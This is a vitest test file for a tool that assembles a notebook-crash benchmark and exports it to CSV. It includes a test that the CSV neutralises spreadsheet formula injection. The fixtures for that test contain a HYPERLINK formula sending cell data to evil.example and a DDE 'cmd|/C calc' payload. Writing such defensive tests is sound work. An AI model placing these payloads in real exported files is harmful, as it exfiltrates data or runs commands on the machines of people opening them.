import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  checkSchema,
  type Instance,
  type InstanceVerification,
  type Labels,
  type VerificationReport,
} from '@junobench/core';
import { assembleBenchmark } from './assemble-benchmark.js';
import { BENCHMARK_CSV_COLUMNS, formatBenchmarkCsv } from './format-benchmark-csv.js';

const labels: Labels = {
  library: 'pandas',
  crashType: 'key error',
  rootCause: 'API misuse',
  pipelineStage: 'data preparation',
  diagnosis: 'column renamed, "price" gone',
};
const instance = (id: string): Instance => ({
  id,
  source: {
    platform: 'kaggle',
    notebookUrl: `https://www.kaggle.com/code/x/${id}`,
    datasets: [{ title: 'Houses', license: 'CC0: Public Domain', url: 'https://k/d' }],
  },
  crash: { ename: 'KeyError', evalue: "'price'", match: 'exact', cell: 3 },
  execution: { order: 'file' },
  requires: ['pandas'],
  labels,
});
const verdict = (id: string, status: InstanceVerification['status']): InstanceVerification => {
  const runtime = { kind: 'local' as const, packages: {} };
  return {
    instance: id,
    status,
    verified: status === 'verified',
    flaky: false,
    reproduced: {
      version: 'reproduced',
      outcome: status === 'skipped' ? 'skipped-env' : status === 'verified' ? 'crash-reproduced' : 'no-crash',
      cells: [],
      durationMs: 1,
      runtime,
      ...(status === 'skipped' ? { reason: 'required module tensorflow not importable' } : {}),
    },
    fixed: {
      version: 'fixed',
      outcome: status === 'skipped' ? 'skipped-env' : 'fixed-ok',
      cells: [],
      durationMs: 1,
      runtime,
    },
    contentHash: 'h',
    cached: false,
  };
};
const report: VerificationReport = {
  runtime: 'local',
  summary: { total: 3, verified: 1, notVerified: 1, skipped: 1, flaky: 0 },
  instances: [verdict('a', 'verified'), verdict('b', 'not-verified'), verdict('c', 'skipped')],
};

describe('assembleBenchmark', () => {
  const b = assembleBenchmark(
    [instance('a'), instance('b'), instance('c')],
    report,
    { a: labels, b: labels, c: labels },
    { name: 'JunoBench' },
  );

  it('lists verified instances and skipped ones (with the reason), never failing ones', () => {
    expect(b.instances.map((e) => [e.id, e.verification.status])).toEqual([
      ['a', 'verified'],
      ['c', 'skipped'],
    ]);
    expect(b.instances[1]!.verification.reason).toContain('tensorflow');
    expect(checkSchema('benchmark', b)).toEqual([]);
  });

  it('requires final labels for every included instance', () => {
    expect(() => assembleBenchmark([instance('a')], report, {}, { name: 'x' })).toThrow(
      /no final labels for instance a/,
    );
  });

  it('writes a CSV with a header and quoted fields', () => {
    const csv = formatBenchmarkCsv(b);
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^id,platform,notebook_url,datasets,dataset_licenses/);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain('"column renamed, ""price"" gone"');
  });
});

describe('benchmark.csv is safe to open in a spreadsheet', () => {
  const hostile = {
    ...instance('f'),
    crash: {
      ename: 'ValueError',
      evalue: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      match: 'exact' as const,
      cell: 3,
    },
    source: {
      platform: 'kaggle' as const,
      datasets: [{ title: '@SUM(1+1)*cmd|/C calc!A0', license: '+CC0', url: 'https://k/d' }],
    },
  };
  const b = assembleBenchmark(
    [hostile],
    { ...report, instances: [verdict('f', 'verified')] },
    { f: { ...labels, diagnosis: '-2+3 then\ttab' } },
    { name: 'JunoBench' },
  );

  it('neutralises cells beginning with = + - @ tab CR (read back with a CSV parser), while the JSON keeps the exact text', () => {
    const rows = parse(formatBenchmarkCsv(b), { columns: true }) as Record<
      (typeof BENCHMARK_CSV_COLUMNS)[number],
      string
    >[];
    expect(rows[0]).toMatchObject({
      crash_evalue: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      datasets: `'@SUM(1+1)*cmd|/C calc!A0`,
      dataset_licenses: `'+CC0`,
      diagnosis: `'-2+3 then\ttab`,
      id: 'f',
    });
    for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(b.instances[0]!.crash.evalue).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(b.instances[0]!.labels.diagnosis).toBe('-2+3 then\ttab');
  });
});
